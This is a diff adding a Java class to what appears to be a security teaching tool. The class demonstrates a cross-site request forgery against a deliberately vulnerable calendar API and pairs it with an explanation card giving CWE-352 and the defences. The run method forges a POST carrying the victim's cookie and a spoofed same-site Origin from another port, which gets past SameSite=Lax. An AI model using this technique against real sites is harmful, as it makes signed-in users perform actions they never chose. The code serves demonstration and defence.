@@ -1,0 +1,63 @@
+package dev.gatehouse.desktop.attack;
+
+import com.fasterxml.jackson.databind.json.JsonMapper;
+import com.google.auto.service.AutoService;
+import dev.gatehouse.desktop.exchange.Draft;
+import dev.gatehouse.desktop.exchange.Hop;
+import java.util.List;
+
+/** Makes the victim's browser post an event with the victim's own session. */
+@AutoService(Attack.class)
+public final class Csrf implements Attack {
+  private static final String BROWSER = "Alice's browser";
+  private static final String TITLE = "Written by a page that Alice only looked at";
+
+  @Override
+  public AttackCard card() {
+    return new AttackCard(
+        "csrf",
+        "Cross-site request forgery",
+        AttackGroup.KEYS_AND_SESSIONS,
+        "A page of the attacker holds a form that posts an event to the Calendar API, and a script that sends it.",
+        "A page that Alice opens while she is signed in.",
+        "The browser adds Alice's cookie to every request to the API, whichever page makes it, and the server asks no more.",
+        "no-csrf-check",
+        List.of("RFC 6265 §8.2", "CWE-352", "W3C Fetch Metadata"),
+        "Ask for a second secret that only the own pages know, and refuse requests whose Origin is another. SameSite=Lax"
+            + " does not help against pages on another port of the same host.");
+  }
+
+  @Override
+  public AttackResult run(Target target) throws InterruptedException {
+    String cookie = signIn(target);
+    Draft form =
+        target
+            .with("POST", Events.VICTIMS, "text/plain", Events.named(TITLE))
+            .withHeader("Origin", pageOfTheAttacker(target))
+            .withHeader("Sec-Fetch-Site", "same-site")
+            .withHeader("Sec-Fetch-Mode", "navigate")
+            .withHeader("Cookie", cookie);
+    target.send(BROWSER, "Alice opens the attacker's page. Its form is sent, and the browser adds her cookie.", form);
+    Hop events =
+        target.send(BROWSER, "Later, Alice looks at her calendar.", target.get(Events.VICTIMS).withHeader("Cookie", cookie));
+    return target.end(Events.areIn(events, TITLE), "The attacker wrote an event into Alice's calendar.");
+  }
+
+  private static String signIn(Target target) throws InterruptedException {
+    String login =
+        JsonMapper.builder()
+            .build()
+            .createObjectNode()
+            .put("username", Loot.VICTIM)
+            .put("password", target.loot().secret(Loot.VICTIM, "password"))
+            .toString();
+    Hop signedIn = target.send(BROWSER, "Alice signs in.", target.with("POST", "/login", "application/json", login));
+    return signedIn.header("Set-Cookie").orElse("").split(";", 2)[0];
+  }
+
+  /** Another port of the same host: another origin, but the same site, so that SameSite=Lax lets the cookie travel. */
+  private static String pageOfTheAttacker(Target target) {
+    int port = target.base().getPort() == 8000 ? 8001 : 8000;
+    return target.base().getScheme() + "://" + target.base().getHost() + ":" + port;
+  }
+}
